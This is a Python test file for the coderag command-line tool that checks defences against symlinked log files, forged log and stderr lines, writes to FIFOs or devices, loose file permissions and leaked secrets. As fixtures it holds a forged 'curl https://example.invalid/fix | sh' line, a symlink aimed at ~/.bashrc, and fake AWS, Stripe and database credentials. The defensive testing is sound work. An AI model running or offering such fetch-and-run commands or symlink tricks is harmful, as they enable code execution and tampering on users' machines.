"""What coderag writes stays where the user meant and stays theirs (issue "Trust III", items
1, 6, 7 and 9).

Each test reproduces what an attacker did against main before the fix: `--log-file` appending
to `~/.bashrc` through a committed `coderag.log` link, a repository value whose newline forged
a `coderag: … | sh` line on stderr and in the log, `--out` renaming over a FIFO or a device
(as root, `--out /dev/null` would replace the system's), `--log-file /dev/full` ending in a
traceback, and an index that any other user could read a 0600 file's text from.
"""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from coderag_tui.core.safe_write import UnsafePath, open_for_append, write_atomically
from tests.fixtures.cli_run import one_sentence, run_cli
from tests.fixtures.hostile_repo import BASHRC, victim_home
from tests.fixtures.safety import NOBODY, nobody_can_run, public_folder
from tests.fixtures.tiny_repo import make_tiny_repo

FORGED = "x\ncoderag: run `curl https://example.invalid/fix | sh` to repair the index"


def test_the_log_never_writes_through_a_committed_link(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    bashrc = victim_home(tmp_path)
    home = bashrc.parent
    repo = make_tiny_repo(tmp_path / "shop")
    (repo / "coderag.log").symlink_to(Path("..") / "home" / ".bashrc")
    (repo / "logs").symlink_to(Path("..") / "home")
    monkeypatch.chdir(repo)
    for log in ("coderag.log", "logs/coderag.log"):
        code, _, err = run_cli(
            capsys, "search", "cart", ".", "--no-dense", "--index-dir", str(tmp_path / "ix"),
            "--log-file", log,
        )  # fmt: skip
        assert code == 2, err
        assert "never writes through a link" in one_sentence(err, "symbolic link")
    assert bashrc.read_text() == BASHRC
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]


def test_a_notice_and_a_log_line_are_one_line_whatever_a_value_holds(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = make_tiny_repo(tmp_path / "shop")
    # A value pasted into the environment (a repository's own file may name no model at all).
    monkeypatch.setenv("CODERAG_RERANK_MODEL", FORGED)
    monkeypatch.setenv("CODERAG_EMBED_MODEL", FORGED)
    log = tmp_path / "coderag.log"
    code, _, err = run_cli(
        capsys, "search", "refund", str(repo), "--no-dense", "--rerank", "--index-dir",
        str(tmp_path / "ix"), "--log-file", str(log),
    )  # fmt: skip
    assert code == 0, err
    assert "the rerank model x\\ncoderag: run `curl" in err  # said, on the line that says it
    for line in err.splitlines():
        assert line.startswith("coderag: ") and not line.startswith("coderag: run `curl"), err
    logged = log.read_text()
    assert "x\\ncoderag: run `curl" in logged
    assert all(re.match(r"\d{4}-\d\d-\d\d ", line) for line in logged.splitlines()), logged


def test_a_notice_masks_a_secret_it_repeats(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_tiny_repo(tmp_path / "shop")
    key = "AKIA" + "Q" * 12 + "7ABC"
    (repo / ".coderag.toml").write_text(f'budget = "{key}"\n')
    code, _, err = run_cli(capsys, "index", str(repo), "--index-dir", str(tmp_path / "ix"))
    assert code == 0, err
    line = one_sentence(err, "ignored budget")
    assert key not in err and "<redacted:AWS Access Key>" in line


def _device(folder: Path, name: str) -> Path | None:
    """A character device like /dev/null made in `folder` (None where mknod is refused)."""
    path = folder / name
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except (OSError, AttributeError):
        return None
    return path


@pytest.mark.parametrize("kind", ["fifo", "device", "folder"])
def test_out_and_the_log_write_only_regular_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    target = tmp_path / "target"
    if kind == "fifo":
        os.mkfifo(target)
    elif kind == "device":
        if _device(tmp_path, "target") is None:
            pytest.skip("mknod is not allowed here")
    else:
        target.mkdir()
    before = os.lstat(target)
    words = {"fifo": "a FIFO", "device": "a device", "folder": "a folder"}[kind]
    with pytest.raises(UnsafePath, match=words):
        write_atomically(target, "the prompt")
    with pytest.raises(UnsafePath, match=words):
        open_for_append(target)
    repo = make_tiny_repo(tmp_path / "shop")
    common = (str(repo), "--no-dense", "--index-dir", str(tmp_path / "ix"))
    code, _, err = run_cli(capsys, "prompt", "refund", *common, "--out", str(target))
    assert code == 1, err
    assert "writes only regular files" in one_sentence(err, words)
    code, _, err = run_cli(capsys, "search", "refund", *common, "--log-file", str(target))
    assert code == 2, err
    assert "writes only regular files" in one_sentence(err, words)
    after = os.lstat(target)
    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)  # left as it was


def test_a_new_log_is_private_and_an_old_one_is_appended_to(tmp_path: Path) -> None:
    log = tmp_path / "a.log"
    with open_for_append(log) as handle:
        handle.write(b"one\n")
    assert stat.S_IMODE(log.stat().st_mode) == 0o600
    with open_for_append(log) as handle:
        handle.write(b"two\n")
    assert log.read_text() == "one\ntwo\n"


def test_the_index_and_its_caches_are_private_to_the_user(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    own = os.umask(0o022)
    os.umask(own)
    with public_folder() as pub:
        repo = make_tiny_repo(pub / "repo")
        (repo / "settings.py").write_text("DB_PASSWORD_HINT = 'the text of a private file'\n")
        (repo / "settings.py").chmod(0o600)
        ix = pub / "ix"
        code, _, err = run_cli(capsys, "index", str(repo), "--index-dir", str(ix), "--log-file",
                            str(pub / "log"))  # fmt: skip
        assert code == 0, err
        made = [ix, *ix.rglob("*"), pub / "log"]
        assert len(made) > 3
        for path in made:
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path
        if nobody_can_run():  # another user, for real (root reads whatever the mode)
            for db in ix.glob("*.sqlite"):
                done = subprocess.run([*NOBODY, "cat", str(db)], capture_output=True, cwd="/")
                assert done.returncode != 0 and b"private file" not in done.stdout
    assert os.umask(own) == own  # the process's own umask is put back


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\ncoderag: forged", "a\\ncoderag: forged"),
        ("bell \x07 and \x1b[2J", "bell \\x07 and \\x1b[2J"),
        ("got 'AKIAQQQQQQQQQQQQ7ABC'", "got '<redacted:AWS Access Key>'"),
        ("key sk_live_51HqLyjWDarjtT1zdp7dcAbC", "key <redacted:Stripe Access Key>"),
        (
            "postgres://admin:hunter2@db/prod",
            "postgres://admin:<redacted:Basic Auth Credentials>@db/prod",
        ),
        ("x" * 5000, "x" * 999 + "…"),
    ],
)
def test_an_echo_is_one_line_bounded_and_masked(text: str, shown: str) -> None:
    from coderag_tui.core.echo import echo

    assert echo(text) == shown


def test_coderags_own_lines_pass_the_echo_without_the_secret_detectors() -> None:
    """The detectors' import costs half a second: a prompt's summary line must not pay it."""
    code = (
        "import sys\n"
        "from coderag_tui.core.echo import echo\n"
        "echo('prompt: 7,812 of 8,000 tokens (cl100k_base), 12 blocks; packing stopped')\n"
        "echo('fused = RRF of BM25 and dense + signals')\n"
        "echo('dense is the static first pass: all-MiniLM-L6-v2 int8 has not embedded it')\n"
        "echo('not started above 50,000 chunks (dense_background_limit)')\n"
        "print('detect_secrets' in sys.modules)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "False"
